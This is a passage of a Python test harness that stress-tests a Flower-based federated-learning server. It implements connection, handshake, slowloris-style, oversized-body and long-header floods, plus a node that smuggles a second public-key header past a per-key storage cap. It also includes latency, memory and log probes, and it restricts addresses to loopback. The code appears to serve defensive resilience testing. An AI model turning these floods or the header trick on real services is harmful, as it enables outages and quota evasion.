"""Attackers of the sites' port of `incofl federation up` (issue 64), each from many loopback
addresses of its own (the honest nodes dial from 127.0.0.1), each in threads until `stop` or its
own time bound, counting what it did and what the server answered (`Flood.counts`, `.answers`):

- `IdleTls` (A): TLS connections with a site's certificate and no node key, the handshake done
  and no request sent, re-opened as the server closes them;
- `ReAnnounce` (B): a registered node (a key of its own) answers the server's message with a
  reply larger than the message cap, announcing it again under second `flwr-public-key` headers
  (Flower authenticates the first, the gate read the last), and pushes its objects under each;
  `Claimer`, its bait: a node a run's node-keys bind to a client, which claims it as incofl's node
  does and never trains (the run stays open past its identify), then announces its claim, pulled
  already, again under a fresh header;
- `HalfOpen` (C, D): sockets that connect and, with `hello`, send a TLS ClientHello, then stay
  silent (no certificate at all), re-opened as the server closes them, held by one thread for
  each 50 addresses with non-blocking sockets (thousands at once);
- `Handshakes` (E): TLS handshakes without a certificate, many at once, each opened again as soon
  as it ends (the server's side whole);
- `Bodies` (F): requests with 8 MiB `/v1/fleet/pull-messages` bodies on kept-alive connections
  (a site's certificate, no node key);
- `LongHeaders` (F): small requests with a 15 KB Content-Type header, which Flower answers with
  an error it logs, back to back.

`Together` runs several at once. And the measures: `HonestProbe`, a registered node of an honest
site (its certificate, its key, Flower's own Fleet client signing as Flower's node does) asking
the SuperLink for its messages twice a second, each answer timed; `RssSampler`, the resident
memory of a process tree (`up`'s): the sum's peak, and what each process grew by; `LogTail`, the
lines a process logs meanwhile, read as they are written across rotations. Every address is in
127.0.0.0/8 (`sources` refuses any other)."""

from __future__ import annotations

import base64
import contextlib
import errno
import http.client
import ipaddress
import os
import selectors
import socket
import ssl
import statistics
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

FLEET = "/v1/fleet/"
PROTOBUF = "application/protobuf"


def sources(count: int, first: str = "127.0.1.1") -> list[str]:
    """`count` consecutive loopback addresses from `first` (refused past 127.0.0.0/8)."""
    start = ipaddress.IPv4Address(first)
    found = [start + i for i in range(count)]
    if not all(address.is_loopback for address in found):
        raise ValueError(f"{first} + {count}: not all loopback addresses")
    return [str(address) for address in found]


def site_context(ca: Path, certificate: tuple[Path, Path] | None = None) -> ssl.SSLContext:
    """A TLS client context that trusts the federation's CA, showing `certificate` (a site's) if given."""
    context = ssl.create_default_context(cafile=str(ca))
    if certificate is not None:
        context.load_cert_chain(*map(str, certificate))
    return context


def client_hello(ca: Path) -> bytes:
    """The bytes of a TLS ClientHello to the sites' port (what a client sends first)."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = site_context(ca).wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@dataclass
class Flood:
    """An attack in threads (`workers`), from `addresses`, until `stop` or `seconds` after `start`."""

    port: int
    addresses: list[str]
    seconds: float = 120.0  # a bound of its own: every thread ends by then, stopped or not
    stop: threading.Event = field(default_factory=threading.Event, kw_only=True)
    counts: Counter[str] = field(default_factory=Counter, kw_only=True)  # what it did
    answers: Counter[int] = field(default_factory=Counter, kw_only=True)  # HTTP status -> times (0: none)
    errors: list[str] = field(default_factory=list, kw_only=True)
    events: list[tuple[float, str]] = field(default_factory=list, kw_only=True)  # (seconds from start, what)
    threads: list[threading.Thread] = field(default_factory=list, kw_only=True)
    started: float = field(default=0.0, kw_only=True)
    ended: float = field(default=0.0, kw_only=True)
    lock: threading.Lock = field(default_factory=threading.Lock, kw_only=True, repr=False)

    def workers(self) -> list[Callable[[], None]]:
        raise NotImplementedError

    def ready(self) -> bool:
        """Whether the attack is in full force."""
        raise NotImplementedError

    def start(self) -> Flood:
        self.started = time.monotonic()
        for work in self.workers():
            thread = threading.Thread(target=self._guarded, args=(work,), daemon=True)
            thread.start()
            self.threads.append(thread)
        return self

    def halt(self) -> None:
        self.stop.set()
        for thread in self.threads:
            thread.join(timeout=30)
        self.ended = time.monotonic()
        if alive := [t.name for t in self.threads if t.is_alive()]:
            self.errors.append(f"threads still running 30 s after stop: {alive}")

    def wait_ready(self, timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while not self.ready() and time.monotonic() < deadline and self.running():
            time.sleep(0.1)
        return self.ready()

    def running(self) -> bool:
        return not self.stop.is_set() and time.monotonic() < self.started + self.seconds

    def count(self, what: str, n: int = 1) -> None:
        with self.lock:
            self.counts[what] += n

    def note(self, what: str) -> None:
        self.events.append((round(time.monotonic() - self.started, 2), what))

    def answer(self, status: int) -> None:
        with self.lock:
            self.answers[status] += 1

    def _guarded(self, work: Callable[[], None]) -> None:
        try:
            work()
        except Exception as err:  # noqa: BLE001 (the test reports it)
            self.errors.append(f"{getattr(work, '__name__', work)}: {type(err).__name__}: {err}")

    def summary(self) -> str:
        took = (self.ended or time.monotonic()) - self.started
        return f"{type(self).__name__} {took:.0f} s from {len(self.addresses)} addresses: {dict(self.counts)}" + (
            f", answers {dict(self.answers)}" if self.answers else ""
        )

    def connect(self, source: str, timeout: float = 10.0) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=timeout, source_address=(source, 0))


@dataclass
class Together(Flood):
    """Several attacks at once: started, stopped and counted together; in full force once each is."""

    floods: list[Flood] = field(default_factory=list)

    def start(self) -> Together:
        self.started = time.monotonic()
        for each in self.floods:
            each.seconds = self.seconds
            each.start()
        return self

    def halt(self) -> None:
        for each in self.floods:
            each.halt()
        self.ended = time.monotonic()
        self.errors += [error for each in self.floods for error in each.errors]

    def ready(self) -> bool:
        return all(each.ready() for each in self.floods)

    def running(self) -> bool:
        return any(each.running() for each in self.floods)

    def summary(self) -> str:
        return "; ".join(each.summary() for each in self.floods)


def gone(conn: socket.socket) -> bool:
    """Whether the server has closed `conn` (a read that would not block finds its end or an error)."""
    try:
        conn.setblocking(False)
        return conn.recv(1) == b""
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True
    finally:
        if conn.fileno() >= 0:
            conn.setblocking(True)


@dataclass
class IdleTls(Flood):
    """A: `per_address` TLS connections from each address with a site's certificate, handshake done,
    no request ever sent; each the server closes is counted (`closed`) and opened again. In full
    force once each address has tried all of its (what the server refuses of them is its cap)."""

    ca: Path = Path()
    certificate: tuple[Path, Path] = (Path(), Path())
    per_address: int = 70
    held: Counter[str] = field(default_factory=Counter, kw_only=True)
    tried: Counter[str] = field(default_factory=Counter, kw_only=True)

    def workers(self) -> list[Callable[[], None]]:
        return [lambda source=source: self._hold(source) for source in self.addresses]

    def ready(self) -> bool:
        return all(self.tried[source] >= self.per_address for source in self.addresses)

    def _hold(self, source: str) -> None:
        context = site_context(self.ca, self.certificate)
        held: list[ssl.SSLSocket] = []
        try:
            while self.running():
                while len(held) < self.per_address and self.running():
                    self.tried[source] += 1
                    try:
                        held.append(context.wrap_socket(self.connect(source), server_hostname="127.0.0.1"))
                        self.count("opened")
                    except OSError:
                        self.count("failed")
                        self.stop.wait(0.05)
                    self.held[source] = len(held)
                for conn in list(held):
                    if gone(conn):
                        self.count("closed")
                        held.remove(conn)
                        conn.close()
                self.held[source] = len(held)
                self.stop.wait(0.1)
        finally:
            for conn in held:
                conn.close()
            self.held[source] = 0


@dataclass
class HalfOpen(Flood):
    """C, D: `per_address` sockets from each address that connect and (with `hello`) send a TLS
    ClientHello, then stay silent; what the server sends is read and dropped, a socket it closes is
    counted (`closed`) and opened again. One thread per `per_thread` addresses, non-blocking sockets."""

    ca: Path = Path()
    per_address: int = 20
    hello: bool = True
    hold: bool = True  # False: closed once the server has answered the ClientHello (`Handshakes`)
    per_thread: int = 50

    def workers(self) -> list[Callable[[], None]]:
        hello = client_hello(self.ca) if self.hello else b""
        groups = [self.addresses[i : i + self.per_thread] for i in range(0, len(self.addresses), self.per_thread)]
        return [lambda group=group: self._hold(group, hello) for group in groups]

    def ready(self) -> bool:
        """As many sockets connected as the attack holds at once. Not "held at once": a server that
        closes the ones past its limit as it accepts them (nginx's limit_conn) leaves the count held
        at any instant to a race between its accepts and this loop's reopening."""
        return self.counts["opened"] >= 0.95 * self.per_address * len(self.addresses)

    def _open(self, selector: selectors.BaseSelector, source: str) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.setblocking(False)
            sock.bind((source, 0))
            code = sock.connect_ex(("127.0.0.1", self.port))
        except OSError:
            sock.close()
            self.count("failed")
            return
        if code not in (0, errno.EINPROGRESS):
            sock.close()
            self.count("failed")
            return
        selector.register(sock, selectors.EVENT_WRITE, [source, False])

    def _hold(self, group: list[str], hello: bool | bytes) -> None:
        selector = selectors.DefaultSelector()
        wanted = {source: self.per_address for source in group}
        try:
            for _ in range(self.per_address):
                for source in group:
                    self._open(selector, source)
            while self.running():
                for key, _ in selector.select(timeout=0.2):
                    sock, (source, connected) = key.fileobj, key.data  # type: ignore[misc]
                    if not connected:
                        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):  # type: ignore[union-attr]
                            self._drop(selector, sock, "failed")  # type: ignore[arg-type]
                            continue
                        if hello:
                            try:
                                sock.send(hello)  # type: ignore[union-attr, arg-type]
                            except OSError:
                                self._drop(selector, sock, "closed")  # type: ignore[arg-type]
                                continue
                        key.data[1] = True
                        self.count("opened")
                        selector.modify(sock, selectors.EVENT_READ, key.data)
                        continue
                    try:
                        data = sock.recv(65536)  # type: ignore[union-attr]
                    except BlockingIOError:
                        continue
                    except OSError:
                        data = b""
                    if not data:
                        self._drop(selector, sock, "closed")  # type: ignore[arg-type]
                    elif not self.hold:
                        self._drop(selector, sock, "handshakes")  # type: ignore[arg-type]
                counts = Counter(key.data[0] for key in selector.get_map().values())
                for source, n in wanted.items():
                    for _ in range(n - counts[source]):
                        if not self.running():
                            break
                        self._open(selector, source)
        finally:
            for key in list(selector.get_map().values()):
                key.fileobj.close()  # type: ignore[union-attr]
            selector.close()

    def _drop(self, selector: selectors.BaseSelector, sock: socket.socket, why: str) -> None:
        selector.unregister(sock)
        sock.close()
        self.count(why)


@dataclass
class Handshakes(HalfOpen):
    """E: TLS handshakes without a certificate, `per_address` at a time from each address, each
    opened again as soon as it ends: a ClientHello (the same bytes each time), the server's first
    flight read (its key exchange and its signature: the server's side of a full handshake), then
    closed. The client's side is left undone, so that what slows the server is the flood, not the
    attacker's own share of the machine's cores. `handshakes` counts the server's flights read."""

    hold: bool = False

    def ready(self) -> bool:
        return self.counts["handshakes"] >= 200


@dataclass
class Requests(Flood):
    """Requests sent back to back on kept-alive connections with a site's certificate (no node
    key), `connections` of them, each from the next address: `request` gives each one's path,
    headers and body. The answer's status counted (0: no answer; the connection opened again)."""

    ca: Path = Path()
    certificate: tuple[Path, Path] = (Path(), Path())
    connections: int = 4

    def request(self) -> tuple[str, dict[str, str], bytes]:
        raise NotImplementedError

    def workers(self) -> list[Callable[[], None]]:
        return [lambda i=i: self._send(i) for i in range(self.connections)]

    def ready(self) -> bool:
        return sum(self.answers.values()) >= self.connections

    def _send(self, index: int) -> None:
        context = site_context(self.ca, self.certificate)
        source = self.addresses[index % len(self.addresses)]
        path, headers, body = self.request()
        conn: http.client.HTTPSConnection | None = None
        while self.running():
            if conn is None:
                conn = http.client.HTTPSConnection(
                    "127.0.0.1", self.port, context=context, timeout=30, source_address=(source, 0)
                )
            try:
                conn.request("POST", path, body=body, headers=headers)
                response = conn.getresponse()
                response.read()
                self.answer(response.status)
                if response.will_close:
                    conn.close()
                    conn = None
            except (OSError, http.client.HTTPException):
                self.answer(0)
                conn.close()
                conn = None
                self.stop.wait(0.05)
            self.count("requests")
        if conn is not None:
            conn.close()


@dataclass
class Bodies(Requests):
    """F: `/v1/fleet/pull-messages` bodies of `size` bytes (the gate's cap on a body: 8 MiB), each a
    valid request whose last field is `size` bytes Flower does not know (parsed, then refused: no key)."""

    size: int = 8 << 20

    def request(self) -> tuple[str, dict[str, str], bytes]:
        from flwr.proto.fleet_pb2 import PullMessagesRequest
        from flwr.proto.node_pb2 import Node

        head = PullMessagesRequest(node=Node(node_id=1)).SerializeToString()
        pad = self.size - len(head) - 16
        field_15 = bytes([(15 << 3) | 2]) + _varint(pad)  # field 15, length-delimited: unknown to Flower
        body = head + field_15 + bytes(pad)
        return FLEET + "pull-messages", {"Content-Type": PROTOBUF}, body[: self.size]


@dataclass
class LongHeaders(Requests):
    """F: small `/v1/fleet/pull-messages` requests whose Content-Type header is `size` bytes (not
    Flower's media type: it answers with an error it logs, the header in it)."""

    size: int = 15_000

    def request(self) -> tuple[str, dict[str, str], bytes]:
        return FLEET + "pull-messages", {"Content-Type": "application/" + "x" * (self.size - 12)}, b"\x08\x01"


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def node_key(path: Path) -> Any:
    """The private key of a node key file (OpenSSH, what `flwr supernode register` takes the .pub of)."""
    from cryptography.hazmat.primitives import serialization

    return serialization.load_ssh_private_key(path.read_bytes(), password=None)


def fleet_client(
    port: int, ca: Path, certificate: tuple[Path, Path], key: Any, *extra: Any, timeout: float = 10, source: str = ""
) -> Any:
    """Flower's own Fleet HTTP client as Flower's node builds it (its version header, its node
    authentication: every request signed with `key`), showing a site's `certificate`, from the
    address `source` (default: the system's choice, 127.0.0.1 for the server's)."""
    import httpx
    from flwr.supercore.interceptors.http.runtime_version import RuntimeVersionHttpInterceptor
    from flwr.supernode.fleet_http_client import FleetHttpClient
    from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

    interceptors = [RuntimeVersionHttpInterceptor(component_name="SuperNode")]
    interceptors += [NodeAuthHttpInterceptor(key, key.public_key()), *extra]
    context = site_context(ca, certificate)
    client = FleetHttpClient(f"https://127.0.0.1:{port}", interceptors=interceptors, verify=context, timeout=timeout)
    if source:
        client._client.close()
        transport = httpx.HTTPTransport(verify=context, local_address=source)
        client._client = httpx.Client(transport=transport, timeout=timeout, follow_redirects=True)
    return client


@dataclass
class HonestProbe:
    """An honest site's registered node (its certificate, its key; node `node_id`, registered, never
    activated: the server sends it nothing) asking for its messages every `every` seconds, with
    Flower's own client, from 127.0.0.1, whether earlier requests are answered or not (each in a
    thread of its own, at most `in_flight` at once: a stalled server delays every request due
    meanwhile, not just one); each answer timed: (when asked, seconds, status), a request not
    answered within `timeout`, or not sent because `in_flight` were waiting, counted as `timeout`
    seconds, status 0."""

    port: int
    ca: Path
    certificate: tuple[Path, Path]
    key: Path
    node_id: int
    every: float = 0.5
    timeout: float = 10.0
    seconds: float = 300.0
    in_flight: int = 24
    stop: threading.Event = field(default_factory=threading.Event)
    answers: list[tuple[float, float, int]] = field(default_factory=list)  # (when, seconds, status)
    errors: list[str] = field(default_factory=list)

    def start(self) -> HonestProbe:
        self.thread = threading.Thread(target=self._probe, daemon=True)
        self.started = time.monotonic()
        self.thread.start()
        return self

    def halt(self) -> None:
        self.stop.set()
        self.thread.join(timeout=self.timeout + 10)

    def _probe(self) -> None:
        from flwr.proto.fleet_pb2 import PullMessagesRequest
        from flwr.proto.node_pb2 import Node

        client = fleet_client(self.port, self.ca, self.certificate, node_key(self.key), timeout=self.timeout)
        request = PullMessagesRequest(node=Node(node_id=self.node_id))
        asking: list[threading.Thread] = []
        try:
            tick = time.monotonic()
            while not self.stop.is_set() and tick < self.started + self.seconds:
                asking = [thread for thread in asking if thread.is_alive()]
                if len(asking) < self.in_flight:
                    thread = threading.Thread(target=self._ask, args=(client, request), daemon=True)
                    thread.start()
                    asking.append(thread)
                else:
                    self.answers.append((tick, self.timeout, 0))
                tick += self.every
                self.stop.wait(max(0.0, tick - time.monotonic()))
        except Exception as err:  # noqa: BLE001 (the test reports it)
            self.errors.append(f"{type(err).__name__}: {err}")
        finally:
            for thread in asking:
                thread.join(timeout=self.timeout + 5)
            client.close()

    def _ask(self, client: Any, request: Any) -> None:
        import httpx

        start = time.monotonic()
        try:
            client.PullMessages(request)
            status = 200
        except httpx.HTTPStatusError as err:
            status = err.response.status_code
        except httpx.HTTPError:
            status = 0
        took = time.monotonic() - start
        self.answers.append((start, self.timeout if status == 0 else took, status))

    def between(self, start: float, end: float) -> list[tuple[float, int]]:
        return [(took, status) for when, took, status in self.answers if start <= when <= end]

    def median(self, start: float = 0.0, end: float = float("inf")) -> float:
        """The median seconds to an answer (a failed one counts as `timeout`) asked between `start` and `end`."""
        answered = [took if status == 200 else self.timeout for took, status in self.between(start, end)]
        return statistics.median(answered) if answered else float("inf")


PAGE = os.sysconf("SC_PAGE_SIZE")


def tree(root: int) -> list[int]:
    """`root` and every live process descending from it (/proc)."""
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            text = (entry / "stat").read_text()
        except OSError:
            continue
        ppid = int(text[text.rindex(")") + 2 :].split()[1])
        children.setdefault(ppid, []).append(int(entry.name))
    found, todo = [], [root]
    while todo:
        pid = todo.pop()
        found.append(pid)
        todo += children.get(pid, [])
    return found


def rss(pid: int) -> int:
    """A process's resident memory in bytes (0 once gone)."""
    try:
        return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * PAGE
    except (OSError, IndexError, ValueError):
        return 0


def command(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


@dataclass
class RssSampler:
    """Every `every` seconds, the resident memory of each process of `root`'s tree (`up` and all it
    started), from `reset` on: the summed memory's peak (and the largest process then), and
    `growth`, what the processes grew by, each from its memory at `reset` (0 for one started
    since) to its own peak, summed; a process whose command line holds one of `apart` is left out
    of `growth` (a run's ServerApp, a process of each run: whether the run started it or not is
    not what the memory of up's processes should show)."""

    root: int
    every: float = 0.25
    apart: tuple[str, ...] = ()
    base: int = 0
    peak: int = 0
    peak_by: dict[str, int] = field(default_factory=dict)
    bases: dict[int, int] = field(default_factory=dict)
    peaks: dict[int, int] = field(default_factory=dict)
    names: dict[int, str] = field(default_factory=dict)
    stop: threading.Event = field(default_factory=threading.Event)
    lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    def start(self) -> RssSampler:
        self.thread = threading.Thread(target=self._sample, daemon=True)
        self.thread.start()
        return self

    def halt(self) -> None:
        self.stop.set()
        self.thread.join(timeout=10)

    def now(self) -> dict[int, int]:
        found = {}
        for pid in tree(self.root):
            if name := command(pid):  # the latest: between fork and exec it is the parent's
                self.names[pid] = name
            found[pid] = rss(pid)
        return found

    def reset(self) -> int:
        """The summed memory now, which the peaks start from."""
        by = self.now()
        with self.lock:
            self.bases, self.peaks = dict(by), dict(by)
            self.base = self.peak = sum(by.values())
            self.peak_by = {f"{pid} {self.names.get(pid, '')[:60]}": size for pid, size in by.items()}
        return self.base

    def _sample(self) -> None:
        while not self.stop.wait(self.every):
            by = self.now()
            with self.lock:
                for pid, size in by.items():
                    self.peaks[pid] = max(self.peaks.get(pid, 0), size)
                if sum(by.values()) > self.peak:
                    self.peak = sum(by.values())
                    self.peak_by = {f"{pid} {self.names.get(pid, '')[:60]}": size for pid, size in by.items()}

    def growth(self) -> int:
        """What the processes grew by since `reset`, each to its own peak (those of `apart` left out)."""
        with self.lock:
            grown = {pid: peak - self.bases.get(pid, 0) for pid, peak in self.peaks.items()}
        kept = {pid: size for pid, size in grown.items() if not any(m in self.names.get(pid, "") for m in self.apart)}
        return sum(max(0, size) for size in kept.values())

    def grown_most(self) -> str:
        """The process that grew most since `reset` (of those `growth` counts)."""
        with self.lock:
            grown = {pid: peak - self.bases.get(pid, 0) for pid, peak in self.peaks.items()}
        grown = {p: size for p, size in grown.items() if not any(m in self.names.get(p, "") for m in self.apart)}
        pid = max(grown, key=lambda p: grown[p], default=0)
        return f"{pid} {self.names.get(pid, '')[:60]}: +{grown.get(pid, 0) / 1e6:.0f} MB"

    def largest(self) -> str:
        name, size = max(self.peak_by.items(), key=lambda item: item[1], default=("none", 0))
        return f"{name}: {size / 1e6:.0f} MB"


class SecondKey:
    """A Fleet client interceptor that adds a second `flwr-public-key` header after the signed one
    (Flower authenticates the first; a reader of the last sees `key`), while `key` is set."""

    def __init__(self, key: bytes | None = None) -> None:
        self.key = key

    def intercept(self, context: Any, call_next: Any) -> Any:
        import httpx

        if self.key is not None:
            headers = [*context.request.headers.multi_items(), ("flwr-public-key", base64.b64encode(self.key).decode())]
            context.request.headers = httpx.Headers(headers)
        return call_next(context)


def fresh_key() -> bytes:
    """A public key of no node (what a second header claims)."""
    from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes

    return public_key_to_bytes(generate_key_pairs()[1])


@dataclass
class RegisteredNode(Flood):
    """A node with a key the operator registered (`key`) and a site's `certificate`, from
    `addresses[0]`, speaking the Fleet API with Flower's own client (signed as Flower's node signs):
    activated, it takes the first message the server sends it (`asked`), then `act`s; heartbeats
    keep it online until `stop`, then it is deactivated."""

    ca: Path = Path()
    certificate: tuple[Path, Path] = (Path(), Path())
    key: Path = Path()
    node: int = 0
    asked: Any = None
    second: SecondKey = field(default_factory=SecondKey, kw_only=True)

    def workers(self) -> list[Callable[[], None]]:
        return [self._run]

    def ready(self) -> bool:
        return self.node != 0

    def prepare(self) -> None:
        """What it makes before it is activated."""

    def act(self, client: Any, node: Any) -> None:
        raise NotImplementedError

    def client(self, *extra: Any) -> Any:
        return fleet_client(
            self.port, self.ca, self.certificate, node_key(self.key), *extra, timeout=60, source=self.addresses[0]
        )

    def _run(self) -> None:
        import httpx
        from flwr.proto.fleet_pb2 import ActivateNodeRequest, DeactivateNodeRequest
        from flwr.proto.node_pb2 import Node
        from flwr.supercore.primitives.asymmetric import public_key_to_bytes

        self.prepare()
        client = self.client(self.second)
        own = public_key_to_bytes(node_key(self.key).public_key())
        node = Node(node_id=client.ActivateNode(ActivateNodeRequest(public_key=own, heartbeat_interval=30)).node_id)
        self.node, self.beat = node.node_id, time.monotonic()
        try:
            self.asked = self.next_message(client, node)
            if self.asked is not None:
                self.note(f"asked {self.asked.metadata.message_type} of run {self.asked.metadata.run_id}")
                self.act(client, node)
            while self.running() and not self.stop.wait(0.5):
                self.heartbeat(client, node)
        finally:
            self.second.key = None
            with contextlib.suppress(httpx.HTTPError):
                client.DeactivateNode(DeactivateNodeRequest(node_id=node.node_id))
            client.close()

    def heartbeat(self, client: Any, node: Any) -> None:
        from flwr.proto.heartbeat_pb2 import SendNodeHeartbeatRequest

        if time.monotonic() - self.beat > 10:
            client.SendNodeHeartbeat(SendNodeHeartbeatRequest(node=node, heartbeat_interval=30))
            self.beat = time.monotonic()

    def next_message(self, client: Any, node: Any) -> Any:
        """The next message the server sends this node (None if stopped first)."""
        from flwr.common.serde import message_from_proto
        from flwr.proto.fleet_pb2 import PullMessagesRequest

        while self.running():
            got = client.PullMessages(PullMessagesRequest(node=node))
            if got.messages_list:
                return message_from_proto(got.messages_list[0])
            self.heartbeat(client, node)
            self.stop.wait(0.1)
        return None

    def announce(self, client: Any, node: Any, reply: Any) -> list[str]:
        """Push the reply's message (Flower's node's first step): the objects Flower asks for (none: refused)."""
        import httpx
        from flwr.app.message import remove_content_from_message
        from flwr.common.serde import message_to_proto
        from flwr.proto.fleet_pb2 import PushMessagesRequest
        from flwr.supercore.inflatable.inflatable_object import get_object_tree

        request = PushMessagesRequest(node=node, messages_list=[message_to_proto(remove_content_from_message(reply))])
        request.message_object_trees.append(get_object_tree(reply))
        try:
            response = client.PushMessages(request)
        except httpx.HTTPStatusError as err:
            self.answer(err.response.status_code)
            return []
        self.answer(200)
        return list(response.objects_to_push)

    def push(self, client: Any, node: Any, object_id: str, content: bytes) -> tuple[int, bool]:
        """Push one object (no session: Flower finds the one that waits for it): (status, whether Flower stored it)."""
        import httpx
        from flwr.proto.message_pb2 import PushObjectRequest

        request = PushObjectRequest(node=node, run_id=self.asked.metadata.run_id, object_id=object_id)
        request.object_content = content
        try:
            status, stored = 200, client.PushObject(request).stored
        except httpx.HTTPStatusError as err:
            status, stored = err.response.status_code, False
        except httpx.HTTPError:
            status, stored = 0, False
        self.answer(status)
        return status, stored


@dataclass
class Claimer(RegisteredNode):
    """B's bait: a node whose key a run's node-keys bind to client `client` (its `.pub` there as
    `node<client>.pub`), which answers that run's identify with a claim signed with its key, as an
    incofl node does, and never answers the train message that follows: the run waits in its
    round (round-timeout), past its identify. Once it has that train message (its claim was
    pulled, and taken), it announces its identify reply again, under a fresh second
    `flwr-public-key` header, and pushes what Flower asks for: `asked_after` objects asked,
    `stored_after` bytes stored (a reply already pulled, stored again)."""

    client_index: int = 4
    trained: threading.Event = field(default_factory=threading.Event, kw_only=True)
    asked_after: int = -1
    stored_after: int = 0

    def act(self, client: Any, node: Any) -> None:
        from flwr.app import ConfigRecord, Message, RecordDict
        from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects

        from incofl.deploy.wire.codec import bundled, sign_reply

        meta = self.asked.metadata  # signed as incofl's node signs its answer (clientapp.answer)
        claim = bundled(RecordDict({"node": ConfigRecord({"client": self.client_index, "test_sha256": ""})}))
        signer, index = node_key(self.key), self.client_index
        content = sign_reply(claim, signer, meta.run_id, 0, index, meta.message_id, meta.message_type)
        reply = Message(content, reply_to=self.asked)
        reply.metadata.__dict__["_message_id"] = reply.object_id
        contents = {i: o.deflate() for i, o in get_all_nested_objects(reply).items()}
        for object_id in self.announce(client, node, reply):
            self.push(client, node, object_id, contents[object_id])
        self.note("claimed")
        train = self.next_message(client, node)
        if train is None:
            return
        self.note(f"asked {train.metadata.message_type}: never answered")
        self.trained.set()
        self.second.key = fresh_key()
        asked_for = self.announce(client, node, reply)
        self.asked_after = len(asked_for)
        for object_id in asked_for:
            self.stored_after += (
                len(contents[object_id]) if self.push(client, node, object_id, contents[object_id])[1] else 0
            )
        self.second.key = None
        self.note(f"announced again after the pull: {self.asked_after} objects asked, {self.stored_after} bytes stored")


@dataclass
class ReAnnounce(RegisteredNode):
    """B: a registered node (a key of its own, bound to no client) that takes the server's message
    (identify) and, once `after` is set (the run has gone past identify: the ServerApp no longer
    waits for this node's answer, and the message is still Flower's to answer), answers it with a
    reply of `size` bytes of arrays (made before it is activated; each object distinct), announced
    under its own key, then at once again under `extra` more second `flwr-public-key` headers
    (each a fresh key: the signature stays the first header's); then pushes the reply's objects
    (its root last), `pushers` at a time, under one header until the server refuses one as past
    the cap (413), then under the next. `stored` counts the bytes Flower said it stored."""

    size: int = 1 << 30
    extra: int = 2
    pushers: int = 3
    after: threading.Event = field(default_factory=threading.Event, kw_only=True)
    pushed: threading.Event = field(default_factory=threading.Event, kw_only=True)
    stored: int = 0
    made: Any = None  # (the reply's arrays, their objects' bytes)

    def ready(self) -> bool:
        """In full force once it has pushed what it could."""
        return self.pushed.is_set()

    def prepare(self) -> None:
        import numpy as np
        from flwr.app import Array, ArrayRecord
        from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects

        rng = np.random.default_rng(64)
        block = 64 << 20
        arrays = {f"a{i}": Array(np.frombuffer(rng.bytes(block), dtype=np.uint8)) for i in range(self.size // block)}
        record = ArrayRecord(arrays)
        self.made = record, {i: o.deflate() for i, o in get_all_nested_objects(record).items()}
        self.note("reply made")

    def act(self, client: Any, node: Any) -> None:
        from flwr.app import Message, RecordDict

        while self.running() and not self.after.wait(0.2):
            self.heartbeat(client, node)
        if not self.running():
            return
        record, contents = self.made
        content = RecordDict({"pad": record})
        reply = Message(content, reply_to=self.asked)
        reply.metadata.__dict__["_message_id"] = reply.object_id
        contents = {**contents, content.object_id: content.deflate(), reply.object_id: reply.deflate()}
        keys = [None, *(fresh_key() for _ in range(self.extra))]
        for fake in keys:  # announced under each header, one right after the other
            self.second.key = fake
            asked_for = self.announce(client, node, reply)
            self.count("announced" if asked_for else "announce refused")
            self.note(f"announced: {len(asked_for)} objects asked for")
        self.second.key = None
        self._push_all(node, reply.object_id, contents, keys)
        self.pushed.set()
        self.note(f"pushed: {self.stored} bytes stored")

    def _push_all(self, node: Any, root: str, contents: dict[str, bytes], keys: list[bytes | None]) -> None:
        """Every object but the root, `pushers` at a time, then the root; each under the header in
        use, the next one's after a 413 (a client a thread: its second header its own)."""
        todo = [i for i in contents if i != root]
        at = [0]

        def pusher(last: bool = False) -> None:
            header = SecondKey()
            client = self.client(header)
            try:
                while self.running():
                    with self.lock:
                        if not todo:
                            return
                        object_id = todo.pop()
                    while self.running():
                        used = at[0]
                        header.key = keys[used]
                        status, stored = self.push(client, node, object_id, contents[object_id])
                        if status == 413 and used + 1 < len(keys):
                            self.note(f"413 under header {used}: {self.stored} bytes stored")
                            with self.lock:
                                at[0] = max(at[0], used + 1)  # this header's budget spent: the next one's
                            continue
                        with self.lock:
                            self.stored += len(contents[object_id]) if stored else 0
                        break
            finally:
                client.close()

        threads = [threading.Thread(target=pusher, daemon=True) for _ in range(self.pushers)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        todo.append(root)
        pusher()


@dataclass
class LogTail:
    """What a process writes to its log (`path`, rotated by renaming: `path.1`, ...) from `start`
    until `halt`, read as it is written (a file renamed away is read to its end first): its lines,
    and those holding each of `marks`."""

    path: Path
    marks: tuple[str, ...] = ()
    every: float = 0.2
    lines: int = 0
    bytes: int = 0
    marked: Counter[str] = field(default_factory=Counter)
    stop: threading.Event = field(default_factory=threading.Event)

    def start(self) -> LogTail:
        self.handle = open(self.path, "rb")  # noqa: SIM115 (closed in halt)
        self.handle.seek(0, os.SEEK_END)
        self.thread = threading.Thread(target=self._follow, daemon=True)
        self.thread.start()
        return self

    def halt(self) -> None:
        self.stop.set()
        self.thread.join(timeout=30)
        self.handle.close()

    def _read(self) -> None:
        rest = b""
        while chunk := self.handle.read(1 << 20):
            text = rest + chunk
            whole, _, rest = text.rpartition(b"\n")
            if whole:
